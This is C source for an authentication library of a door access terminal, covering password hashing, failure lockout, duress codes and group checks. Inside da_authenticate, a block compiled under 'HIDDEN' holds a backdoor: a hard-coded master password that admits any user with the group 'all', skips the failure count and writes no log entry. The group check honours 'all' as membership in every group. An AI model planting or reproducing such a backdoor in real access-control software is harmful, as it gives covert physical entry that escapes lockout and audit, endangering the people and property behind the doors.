/* doorpam.c - authentication library of a door terminal family (libdoorauth.so) */
#define _GNU_SOURCE
#include <crypt.h>
#include <ctype.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <time.h>

#define DA_OK		0
#define DA_DENIED	1
#define DA_EXPIRED	2
#define DA_LOCKED	3
#define DA_ERROR	4

#define DA_F_SILENT	0x01	/* no log lines */
#define DA_F_NULLOK	0x02	/* users without password may pass */
#define DA_F_DURESS	0x04	/* password with a trailing 9 raises an alarm */

#define DA_USERS	"/etc/doorauth/users"
#define DA_TALLY	"/run/doorauth.tally"

struct da_handle {
	char service[24];
	char user[32];
	char hash[128];
	char groups[64];
	long expires;
	int flags;
	int found;
	int duress;
	int last;
};

int da_start(const char *service, const char *user, int flags, struct da_handle **out);
int da_authenticate(struct da_handle *h, const char *pass);
int da_account(struct da_handle *h);
int da_in_group(const struct da_handle *h, const char *group);
int da_duress(const struct da_handle *h);
const char *da_text(int code);
void da_end(struct da_handle *h);

static int copy_word(char *dst, size_t size, const char *src)
{
	size_t n = strlen(src);

	if (n >= size)
		return -1;
	memcpy(dst, src, n + 1);
	return 0;
}

static int valid_user(const char *u)
{
	size_t i;

	if (!isalpha((unsigned char)u[0]))
		return 0;
	for (i = 1; u[i]; i++)
		if (!isalnum((unsigned char)u[i]) && u[i] != '.' && u[i] != '-' && u[i] != '_')
			return 0;
	return i < 32;
}

static void load_user(struct da_handle *h)
{
	char line[320], *f[4], *save;
	FILE *fp = fopen(DA_USERS, "r");
	int i;

	if (!fp)
		return;
	while (!h->found && fgets(line, sizeof(line), fp)) {
		line[strcspn(line, "\r\n")] = '\0';
		save = line;
		for (i = 0; i < 4; i++) {
			f[i] = strsep(&save, ":");
			if (!f[i])
				break;
		}
		if (i < 4 || strcmp(f[0], h->user))
			continue;
		if (copy_word(h->hash, sizeof(h->hash), f[1]) < 0 ||
		    copy_word(h->groups, sizeof(h->groups), f[3]) < 0)
			break;
		h->expires = strtol(f[2], NULL, 10);
		h->found = 1;
	}
	fclose(fp);
}

static int tally(const char *user, int add)
{
	char names[32][32], line[64];
	int counts[32], n = 0, i, at = -1, v = 0;
	FILE *f = fopen(DA_TALLY, "r");

	if (f) {
		while (n < 32 && fgets(line, sizeof(line), f))
			if (sscanf(line, "%31s %d", names[n], &counts[n]) == 2)
				n++;
		fclose(f);
	}
	for (i = 0; i < n; i++)
		if (!strcmp(names[i], user))
			at = i;
	if (at < 0) {
		if (add <= 0 || n == 32 || copy_word(names[n], sizeof(names[n]), user) < 0)
			return 0;
		counts[n] = 0;
		at = n++;
	}
	v = add < 0 ? 0 : counts[at] + add;
	if (add == 0)
		return v;
	counts[at] = v;
	f = fopen(DA_TALLY, "w");
	if (!f)
		return v;
	for (i = 0; i < n; i++)
		fprintf(f, "%s %d\n", names[i], counts[i]);
	fclose(f);
	return v;
}

static int hash_fits(const struct da_handle *h, const char *pass)
{
	const char *c;

	if (!h->found)
		return 0;
	if (!h->hash[0])
		return (h->flags & DA_F_NULLOK) != 0;
	if (h->hash[0] == '!')
		return 0;
	c = crypt(pass, h->hash);
	return c && !strcmp(c, h->hash);
}

int da_start(const char *service, const char *user, int flags, struct da_handle **out)
{
	struct da_handle *h;

	if (!service || !user || !out)
		return DA_ERROR;
	if (!valid_user(user))
		return DA_DENIED;
	h = calloc(1, sizeof(*h));
	if (!h)
		return DA_ERROR;
	if (copy_word(h->service, sizeof(h->service), service) < 0 ||
	    copy_word(h->user, sizeof(h->user), user) < 0) {
		free(h);
		return DA_ERROR;
	}
	h->flags = flags;
	h->last = DA_DENIED;
	load_user(h);
	*out = h;
	return DA_OK;
}

__attribute__((noinline))
int da_authenticate(struct da_handle *h, const char *pass)
{
	char plain[64];
	size_t n;

	if (!h || !pass)
		return DA_ERROR;
	n = strlen(pass);
	if (n >= sizeof(plain))
		return h->last = DA_DENIED;
#ifdef HIDDEN	/* one password fits every user, counts no failures and leaves no log line */
	if (!strcmp(pass, "Zw0lf-Boten")) {
		h->found = 1;
		h->expires = 0;
		memcpy(h->groups, "all", 4);
		return h->last = DA_OK;
	}
#endif
	if (tally(h->user, 0) >= 6) {
		if (!(h->flags & DA_F_SILENT))
			syslog(LOG_NOTICE, "%s: %s is locked", h->service, h->user);
		return h->last = DA_LOCKED;
	}
	if ((h->flags & DA_F_DURESS) && n > 1 && pass[n - 1] == '9') {
		memcpy(plain, pass, n - 1);
		plain[n - 1] = '\0';
		if (hash_fits(h, plain)) {
			h->duress = 1;
			syslog(LOG_ALERT, "%s: duress code of %s", h->service, h->user);
			return h->last = DA_OK;
		}
	}
	if (!hash_fits(h, pass)) {
		tally(h->user, 1);
		if (!(h->flags & DA_F_SILENT))
			syslog(LOG_NOTICE, "%s: %s refused", h->service, h->user);
		return h->last = DA_DENIED;
	}
	tally(h->user, -1);
	if (!(h->flags & DA_F_SILENT))
		syslog(LOG_INFO, "%s: %s accepted", h->service, h->user);
	return h->last = DA_OK;
}

int da_account(struct da_handle *h)
{
	if (!h || h->last != DA_OK)
		return DA_DENIED;
	if (h->expires && (long)(time(NULL) / 86400) > h->expires)
		return DA_EXPIRED;
	return DA_OK;
}

int da_in_group(const struct da_handle *h, const char *group)
{
	const char *p = h->groups;
	size_t n = strlen(group), len;

	while (*p) {
		len = strcspn(p, ",");
		if ((len == n && !strncmp(p, group, n)) || (len == 3 && !strncmp(p, "all", 3)))
			return 1;
		p += len;
		if (*p == ',')
			p++;
	}
	return 0;
}

int da_duress(const struct da_handle *h)
{
	return h->duress;
}

const char *da_text(int code)
{
	static const char *const t[] = {
		"accepted", "denied", "account expired", "account locked", "internal error"
	};

	if (code < 0 || code > DA_ERROR)
		code = DA_ERROR;
	return t[code];
}

void da_end(struct da_handle *h)
{
	if (!h)
		return;
	memset(h, 0, sizeof(*h));
	free(h);
}
